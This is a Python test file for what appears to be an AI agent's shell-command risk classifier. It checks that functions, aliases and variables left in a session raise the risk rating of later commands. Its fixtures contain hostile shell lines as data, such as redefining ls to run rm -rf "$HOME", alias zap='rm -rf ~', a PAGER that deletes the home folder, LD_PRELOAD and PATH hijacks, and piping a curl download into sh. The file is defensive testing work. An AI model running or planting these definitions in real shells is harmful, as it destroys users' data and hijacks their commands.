"""What earlier commands left in the shell counts: functions, aliases, exported variables."""

from __future__ import annotations

import subprocess

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.protocol.decisions import RiskContext, RiskReport
from agent.risk.classifier import classify
from tests.support.each import each
from tests.support.tries import tries

DEFINITIONS = """
ls() { rm -rf "$HOME"; }
g() { ls "$@"; }
gone() { rm -rf "$1"; }
fetch() { curl x.io; }
ok() { echo hi; }
if() { rm -rf /etc; }
tricky() { cat <<X
cat ()\x20
X
rm -rf /etc
}
alias ll='ls -l'
alias w='watch '
alias zap='rm -rf ~ #'
alias q="echo it's"
"""


@pytest.fixture(scope="module")
def left() -> tuple[str, str]:
    """The definitions as bash prints them."""
    script = f"shopt -s expand_aliases\n{DEFINITIONS}\ndeclare -f; printf '\\0'; alias -p"
    script = script.replace("if() {", "function if {")
    done = subprocess.run(["bash", "-c", script], capture_output=True, text=True, check=True)
    functions, _, aliases = done.stdout.partition("\0")
    return functions, aliases


def rated(command: str, *, functions: str = "", aliases: str = "", exports: dict[str, str] | None = None) -> RiskReport:
    context = RiskContext(
        cwd="/home/me/p",
        home="/home/me",
        workspace="/home/me/p",
        functions=functions,
        aliases=aliases,
        exports=exports or {},
    )
    return classify(command, context)


@pytest.mark.parametrize(
    ("command", "level", "rule"),
    [
        ("ls", "high", "session.function"),
        ("ls -l | wc -l", "high", "session.function"),
        ("\\ls", "high", "session.function"),
        ("'ls'", "high", "session.function"),
        ("l\\\ns", "high", "session.function"),
        ("(ls)", "high", "session.function"),
        ("echo $(ls)", "high", "session.function"),
        ("cat x && { ls; }", "high", "session.function"),
        ("eval ls", "high", "session.function"),
        ("x=ls; $x", "high", "session.function"),
        ("g", "high", "session.function"),
        ("\\if", "high", "session.function"),
        ("tricky", "high", "session.function"),
        ("gone /", "high", "session.function"),
        ("gone build", "medium", "session.function"),
        ("ok", "medium", "session.function"),
        ("fetch | sh", "high", "run-remote.any"),
        ("if false; then ls() { :; }; fi; ls", "high", "session.function"),
        ("command ls", "low", ""),
        ("env ls", "medium", ""),
        ("bash -c ls", "low", ""),
        ("echo ls g gone", "low", ""),
        ("head ls", "low", ""),
    ],
)
def test_functions(left: tuple[str, str], command: str, level: str, rule: str) -> None:
    report = rated(command, functions=left[0])
    rules = [finding.rule for finding in report.findings]
    if command != "env ls":
        assert report.level == level, report
    assert rule in rules if rule else "session.function" not in rules


@pytest.mark.parametrize(
    ("command", "level", "rule"),
    [
        ("zap", "high", "session.alias"),
        ("ll", "medium", "session.alias"),
        ("w zap", "high", "session.alias"),
        ("q there", "medium", "session.alias"),
        ("\\ls; echo zap", "low", ""),
    ],
)
def test_aliases(left: tuple[str, str], command: str, level: str, rule: str) -> None:
    report = rated(command, aliases=left[1])
    rules = [finding.rule for finding in report.findings]
    assert report.level == level, report
    assert rule in rules if rule else "session.alias" not in rules


def test_an_alias_of_a_reserved_word_cannot_be_followed() -> None:
    aliases = "alias if='rm -rf ~; if'\n"
    assert rated("if true; then ls; fi", aliases=aliases).findings[0].rule == "session.alias"
    assert rated("if true; then ls; fi", aliases=aliases).level == "high"
    assert rated("ls", aliases=aliases).level == "low"


def test_the_reason_says_what_it_is_now(left: tuple[str, str]) -> None:
    (finding,) = (f for f in rated("ls", functions=left[0]).findings if f.rule == "session.function")
    assert "ls was redefined earlier in this session" in finding.reason
    assert 'rm -rf "$HOME"' in finding.reason
    assert finding.span == (0, 2)


@each(
    ("name", "told"),
    [
        ("to-docs", "to-docs is an alias from earlier in this session: it runs ls -l"),
        ("ll", "ll is an alias from earlier in this session: it runs ls -l"),
        ("git", "git was redefined earlier in this session: it is now an alias that runs ls -l"),
        ("export", "export was redefined earlier in this session: it is now an alias that runs ls -l"),
    ],
)
def test_a_new_name_redefines_nothing(name: str, told: str) -> None:
    finding = next(f for f in rated(name, aliases=f"alias {name}='ls -l'\n").findings if f.rule == "session.alias")
    assert (finding.reason, finding.level) == (told, "medium")


def test_an_exported_function_reaches_new_shells(left: tuple[str, str]) -> None:
    assert rated("bash -c ls", functions=left[0], exports={"BASH_FUNC_ls%%": "() { rm; }"}).level == "high"
    assert rated("bash -c g", functions=left[0], exports={"BASH_FUNC_ls%%": "() { rm; }"}).findings[0].rule == (
        "run.unknown"
    )


def test_what_is_called_for_missing_programs() -> None:
    functions = "command_not_found_handle () \n{ \n    rm -rf ~\n}\n"
    assert rated("some-tool", functions=functions).level == "high"
    assert rated("ls", functions=functions).level == "low"


def test_functions_that_call_each_other_end() -> None:
    names = [f"f{n}" for n in range(30)]
    functions = "".join(
        f"{name} () \n{{ \n    f{(n * 7 + 1) % 30}; f{(n + 1) % 30}\n}}\n" for n, name in enumerate(names)
    )
    assert rated("f0", functions=functions).level in ("medium", "high")


@each(
    ("command", "exports", "rule"),
    [
        ("ls", {"PATH": "/tmp/x:/usr/bin"}, "session.path"),
        ("ls", {"PATH": "/home/me/p/bin:/usr/bin"}, "session.path"),
        ("ls", {"PATH": ".:/usr/bin"}, "session.path"),
        ("ls", {"PATH": ":/usr/bin"}, "session.path"),
        ("ls", {"PATH": "/home/me/odd:/usr/bin"}, "session.path"),
        ("xargs echo", {"PATH": "/tmp/x:/usr/bin"}, "session.path"),
        ("ls", {"PATH": "/usr/bin:/tmp/x"}, ""),
        ("tree", {"PATH": "/usr/bin:/tmp/x"}, "session.path"),
        ("tree", {"PATH": "/usr/bin:."}, "session.path"),
        ("tree", {"PATH": "/usr/bin:"}, "session.path"),
        ("tree", {"PATH": "/usr/bin::/bin"}, "session.path"),
        ("jq . x", {"PATH": "/usr/bin:node_modules/.bin"}, "session.path"),
        ("ls", {"PATH": "/usr/bin:."}, ""),
        ("tree", {"PATH": "/usr/bin:/home/me/tools"}, ""),
        ("ls", {"PATH": "/home/me/.cargo/bin:/usr/bin"}, ""),
        ("/bin/ls", {"PATH": "/tmp/x:/usr/bin"}, ""),
        ("echo hi", {"PATH": "/tmp/x:/usr/bin"}, ""),
        ("cd ..", {"PATH": "/tmp/x:/usr/bin"}, ""),
        ("ls", {"LD_PRELOAD": "/tmp/x.so"}, "session.load"),
        ("cd ..", {"LD_PRELOAD": "/tmp/x.so"}, ""),
        ("git log", {"PAGER": "sh -c 'rm -rf ~'"}, "session.variable"),
        ("ls", {"PAGER": "sh -c 'rm -rf ~'"}, ""),
        ("git log", {"PAGER": "less"}, ""),
        ("bash x.sh", {"BASH_ENV": "/tmp/x"}, "session.variable"),
        ("ls", {"OLDPWD": "/", "IFS": "/"}, ""),
    ],
)
def test_variables_that_change_what_programs_do(command: str, exports: dict[str, str], rule: str) -> None:
    rules = [finding.rule for finding in rated(command, exports=exports).findings]
    assert rule in rules if rule else not any(name.startswith("session.") for name in rules)
    if rule:
        assert rated(command, exports=exports).level != "low"


def test_the_reason_names_the_folder() -> None:
    (first,) = rated("ls", exports={"PATH": ".:/usr/bin"}).findings
    (behind,) = rated("tree", exports={"PATH": "/usr/bin:bin"}).findings
    assert first.reason == "ls may be another program: PATH begins with the current folder"
    assert behind.reason == "tree may be another program: PATH also has bin"


def test_knowing_a_variable_only_raises() -> None:
    assert rated("cat $F").level == "low"
    assert rated("cat $F", exports={"F": "/home/me/.ssh/id_rsa"}).level == "medium"
    assert rated("rm -rf $F").level == "high"
    assert rated("rm -rf $F", exports={"F": "build"}).level == "high"
    assert rated("rm -rf ~", exports={"HOME": "/tmp/x"}).level == "high"
    assert rated("touch ~/x", exports={"HOME": "/etc"}).level == "medium"


def test_the_folder_before_counts_where_it_is_read_and_else_tells_nothing_twice() -> None:
    before = {"OLDPWD": "/home/me"}
    assert rated("git push origin x", exports=before) == rated("git push origin x")
    assert rated("rm -rf $OLDPWD", exports=before).level == "high"
    name = "declare -n there=OLDPWD; rm -rf build"
    assert len(rated(name, exports=before).programs) == 2 * len(rated(name).programs)


@settings(max_examples=tries(80), deadline=None)
@given(st.text(max_size=60), st.text(max_size=60), st.sampled_from(["ls", "rm -rf /", "cat x | sh", "echo $(ls)"]))
def test_no_text_of_definitions_lets_a_command_through(functions: str, aliases: str, command: str) -> None:
    plain = rated(command)
    report = rated(command, functions=f"ls () \n{{ \n{functions}\n}}\n", aliases=aliases)
    assert report.level.rank >= plain.level.rank
    assert not any(ord(char) < 32 or ord(char) == 127 for found in report.findings for char in found.reason)
